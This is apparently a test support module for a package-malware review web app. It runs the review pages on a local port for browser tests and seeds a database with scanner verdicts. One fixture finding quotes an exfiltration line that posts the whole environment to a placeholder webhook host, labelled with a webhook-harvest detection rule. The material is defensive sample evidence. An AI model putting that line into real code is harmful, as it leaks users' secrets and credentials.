"""The review pages on a real socket, with verdicts to look at: for browsers."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Coroutine, Iterator
from concurrent.futures import Future
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

from starlette.applications import Starlette

from tests.support.daemon_process import free_port
from tests.support.judged import finding, judged
from tests.support.review_oversight import EXAMPLE
from tests.support.review_site import NotedSignIns
from wharfinger_daemon.clock import FixedClock
from wharfinger_daemon.http.review.app import ReviewParts, build_review_app
from wharfinger_daemon.http.review.origins import Origins
from wharfinger_daemon.http.review.people import Person, Role
from wharfinger_daemon.http.review.sessions import SessionLimits
from wharfinger_daemon.http.review.signing_in import Ways
from wharfinger_daemon.http.server import HttpServer
from wharfinger_daemon.scanning.model import Confidence, Finding
from wharfinger_daemon.scanning.moderation import Decision
from wharfinger_daemon.storage import migrate
from wharfinger_daemon.storage.database import Database
from wharfinger_daemon.storage.reviews import SqlReviewRecords
from wharfinger_daemon.storage.scans import SqlScanRecords

NOW = datetime(2030, 1, 1, 12, tzinfo=UTC)
T = TypeVar("T")


class ReviewServer:
    """The pages in a thread with an event loop of their own.

    Args:
        file: of a database that ``write_verdicts`` wrote.
    """

    def __init__(self, file: Path) -> None:
        self.database = Database(f"sqlite:///{file}")
        self.scans = SqlScanRecords(self.database)
        self.reviews = SqlReviewRecords(self.database, None, lambda leaf: None)
        self.address = f"127.0.0.1:{free_port()}"
        self.app = build_review_app(
            ReviewParts(
                Ways(),
                NotedSignIns(),
                self.reviews,
                Origins.of(self.address, ""),
                FixedClock(NOW),
                SessionLimits(timedelta(days=1), timedelta(days=1)),
                EXAMPLE,
                "https://inspector.example.com/project/{project}/{version}/",
            )
        )
        self.loop = asyncio.new_event_loop()
        self.server = HttpServer(Starlette(routes=list(self.app.routes)), self.address)

    @property
    def url(self) -> str:
        """Of the queue."""
        return f"http://{self.address}/review/"

    def cookie(self, role: Role) -> dict[str, str]:
        """Of a new session, as Playwright takes cookies."""
        _, value = self.app.sessions.begin(Person(f"https://id.example.com#{role}", f"Somebody with {role}", role))
        return {"name": "wharfinger-review", "value": value, "url": self.url}

    def do(self, work: Coroutine[Any, Any, T]) -> T:
        """Has something done in the loop, and waits for it."""
        done: Future[T] = asyncio.run_coroutine_threadsafe(work, self.loop)
        return done.result(60)


def write_verdicts(file: Path) -> None:
    """A database with the verdicts below."""
    with closing(Database(f"sqlite:///{file}")) as database:
        migrate.upgrade(database)
        seeding = seed(SqlScanRecords(database), SqlReviewRecords(database, None, lambda leaf: None))
        # Playwright has a loop in the calling thread.
        thread = threading.Thread(target=asyncio.run, args=(seeding,))
        thread.start()
        thread.join()


@contextmanager
def running_review_server(file: Path) -> Iterator[ReviewServer]:
    """The pages on a database that ``write_verdicts`` wrote."""
    server = ReviewServer(file)
    thread = threading.Thread(target=server.loop.run_forever, daemon=True)
    thread.start()
    server.do(server.server.start())
    try:
        yield server
    finally:
        server.do(server.server.stop())
        server.loop.call_soon_threadsafe(server.loop.stop)
        thread.join(60)
        server.loop.close()
        server.database.close()


def stealing() -> list[Finding]:
    """The evidence of a package that one does not want."""
    return [
        finding(weight=12.0, member="left-padding-1.4/setup.py", line=7),
        finding(
            "yara-rules",
            10.0,
            rule="discord-webhook-harvest",
            message="Data of this machine is sent to a chat's webhook.",
            member="left-padding-1.4/left_padding/__init__.py",
            line=31,
            excerpt='requests.post("https://chat.example.com/api/webhooks/1", json={"env": dict(os.environ)})',
        ),
        finding(
            "eager-code",
            2.0,
            rule="import-network",
            message="The network is used when the package is imported.",
            member="left-padding-1.4/left_padding/__init__.py",
            line=30,
            excerpt="import requests  # for updates",
        ),
        finding(
            "archive-structure",
            1.0,
            rule="trailing-data",
            message="Bytes follow the end of the archive.",
            member="",
            line=0,
            excerpt="",
        ),
    ]


async def seed(scans: SqlScanRecords, reviews: SqlReviewRecords) -> None:
    """A dozen projects: some that wait, some that people decided about."""
    hours = timedelta(hours=1)
    await judged(scans, "left-padding", 0.0, findings=[], version="1.3", at=NOW - 800 * hours)
    await judged(scans, "left-padding", 25.0, findings=stealing(), version="1.4", at=NOW - 2 * hours)
    await judged(scans, "left-padding", 25.0, findings=stealing(), version="1.4.1", at=NOW - 1 * hours)
    await judged(scans, "quick-json", 14.0, confidence=Confidence.HIGH, at=NOW - 5 * hours)
    for number in range(7):
        await judged(scans, f"tidy-tools-{number}", 5.0 + number / 2, at=NOW - 9 * number * hours)
    for number in range(24):
        scan_id = await judged(scans, f"former-{number}", 11.0, at=NOW - 30 * number * hours)
        decision = Decision.BENIGN if number % 6 == 0 else Decision.THREAT
        await reviews.add([scan_id], decision, "Looked at by hand.", "https://id.example.com#moderator", NOW - hours)
